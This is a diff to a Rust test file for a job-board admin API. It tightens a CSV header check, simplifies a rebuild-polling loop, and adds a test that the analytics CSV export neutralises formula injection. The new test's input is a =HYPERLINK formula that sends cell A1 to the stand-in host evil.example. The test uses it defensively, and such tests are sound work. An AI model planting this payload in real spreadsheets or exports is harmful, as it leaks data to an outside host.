@@ -561,10 +561,46 @@ async fn the_agency_sees_every_clients_applications_and_their_numbers() {
         lines
             .next()
             .unwrap()
-            .starts_with("application_id,job_id,job_title,employer")
+            .starts_with(r#""application_id","job_id","job_title","employer""#)
     );
     assert!(lines.next().unwrap().contains("Platform Engineer"));
     assert!(!text.contains("applicant@example.com"), "nothing personal");
+}
+
+/// CSV injection (OWASP): a job title typed as a spreadsheet formula comes
+/// out of the analytics CSV as text, with a leading `'` and in quotes.
+#[tokio::test]
+async fn the_analytics_csv_neutralises_a_title_a_spreadsheet_would_run_as_a_formula() {
+    let app = TestApp::spawn().await;
+    let (_, admin) = app.admin_token().await;
+    let title = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open")"#;
+    app.applied(title, "formula@example.com").await;
+
+    let csv = app
+        .download("/api/admin/analytics/applications.csv", &admin)
+        .await;
+    assert_eq!(csv.status(), StatusCode::OK);
+    let text = csv.text().await.unwrap();
+    assert!(
+        text.contains(r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")","#),
+        "the cell is neutralised and quoted: {text}"
+    );
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let column = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "job_title")
+        .unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1);
+    assert_eq!(&rows[0][column], format!("'{title}"));
+    for cell in rows[0].iter() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{cell:?} would start a formula"
+        );
+    }
 }
 
 #[tokio::test]
@@ -602,14 +638,12 @@ async fn the_overview_counts_what_needs_attention_and_a_rebuild_reports_progress
         .await;
     assert_eq!(started.status, StatusCode::ACCEPTED);
     let mut finished = Value::Null;
-    for _ in 0..100 {
+    crate::support::until("the rebuild has finished", async || {
         let status = app.get("/api/admin/projections", Some(&admin)).await;
-        if status.body["rebuild"]["finished"] == true {
-            finished = status.body["rebuild"].clone();
-            break;
-        }
-        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
-    }
+        finished = status.body["rebuild"].clone();
+        finished["finished"] == true
+    })
+    .await;
     assert_eq!(finished["name"], "job_board");
     assert_eq!(finished["error"], Value::Null);
     assert_eq!(finished["done"], finished["total"]);
